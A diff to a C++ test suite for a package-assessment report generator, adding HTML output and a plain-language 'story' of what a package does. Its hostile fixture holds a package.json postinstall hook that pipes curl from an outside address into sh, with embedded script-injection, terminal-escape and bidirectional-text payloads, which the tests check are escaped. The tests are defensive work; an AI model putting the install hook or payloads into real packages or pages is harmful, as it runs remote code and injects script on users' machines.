@@ -9,6 +9,7 @@
 #include "report/facts_report.h"
 #include "report/inventory_report.h"
 #include "report/progress.h"
+#include "report/story.h"
 
 namespace report {
 namespace {
@@ -124,6 +125,27 @@ Assessment Hostile() {
                                    .files = i,
                                    .bytes = i * 1000});
   }
+  assessment.packages[1].capabilities = {
+      {.name = "network",
+       .does = "speaks to the network",
+       .phase = Phase::kInstall,
+       .count = 2,
+       .examples = {Untrusted("192.0.2.1"), Untrusted("<b onload=x>\x1b[2J")}},
+      {.name = "network", .does = "speaks to the network", .phase = Phase::kCall, .count = 1},
+      {.name = "processes",
+       .does = "starts programs",
+       .phase = Phase::kInstall,
+       .count = 1,
+       .examples = {Untrusted("curl")}}};
+  assessment.excerpts = {
+      {.package = PackageIndex{2},
+       .file = Untrusted("package.json"),
+       .first_line = 11,
+       .lines = {
+           Untrusted("  \"scripts\": {"),
+           Untrusted(
+               "    \"postinstall\": \"curl http://192.0.2.1/`x`|sh </pre><script>alert(1)\""),
+           Untrusted("  \xE2\x80\xAE}")}}};
   assessment.packages[1].verdict = block;
   assessment.packages[0].verdict = warn;
   assessment.not_analysed = {
@@ -186,7 +208,31 @@ INSTANTIATE_TEST_SUITE_P(
                     GoldenCase{Format::kJson, {}, "hostile.json"},
                     GoldenCase{Format::kSarif, {}, "hostile.sarif"},
                     GoldenCase{Format::kMarkdown, {}, "hostile.md"},
-                    GoldenCase{Format::kJunit, {}, "hostile.xml"}));
+                    GoldenCase{Format::kJunit, {}, "hostile.xml"},
+                    GoldenCase{Format::kHtml, {}, "hostile.html"}));
+
+TEST(Html, LoadsLinksAndRunsNothing) {
+  const std::string page = WriteHtml(Hostile(), Cards());
+  for (const std::string_view forbidden :
+       {"<script", "<link", "<img", "<iframe", "<object", "<embed", "<form",
+        "src=", "href=", "url(", "@import", "javascript:", "onload=", "onerror="}) {
+    EXPECT_EQ(page.find(forbidden), std::string::npos) << forbidden;
+  }
+  EXPECT_NE(page.find("default-src 'none'"), std::string::npos);
+  EXPECT_NE(page.find("&lt;script&gt;alert(1)"), std::string::npos);
+}
+
+TEST(Story, TellsWhatAPackageDoesAndWhen) {
+  const Assessment assessment = Hostile();
+  EXPECT_EQ(
+      StoryOf(assessment.packages[1]),
+      (std::vector<std::string>{
+          "When it is installed it speaks to the network (192.0.2.1, <b onload=x>\\x1b[2J), and "
+          "starts programs (curl).",
+          "When it is called it speaks to the network."}));
+  EXPECT_EQ(StoryOf(assessment.packages[0]),
+            std::vector<std::string>{"Nothing of it was seen to run when it is installed."});
+}
 
 TEST(InventoryReport, IsTheWholeExpectedText) {
   Inventory inventory = Hostile().inventory;
@@ -245,6 +291,8 @@ TEST(Escape, NothingForeignFormatsSpeaksOrLinks) {
             "\\[x\\]\\(y\\) \\*b\\* &lt;i&gt; &#64;team \\`c\\`");
   EXPECT_EQ(ForMarkdownCode(Untrusted("a``b")), "```a``b```");
   EXPECT_EQ(ForMarkdownCode(Untrusted("`")), "`` ` ``");
+  EXPECT_EQ(ForHtml(Untrusted("<a href=`x`>")), "&lt;a href&#61;&#96;x&#96;&gt;");
+  EXPECT_EQ(ForHtmlLines(Untrusted("a\tb\x07\r\n<c>\nd\ne"), 3), "a\tb\\x07\n&lt;c&gt;\nd\n…");
   EXPECT_EQ(ForXml(Untrusted("<a href=\"x\">&'")), "&lt;a href=&quot;x&quot;&gt;&amp;&#39;");
 }
 
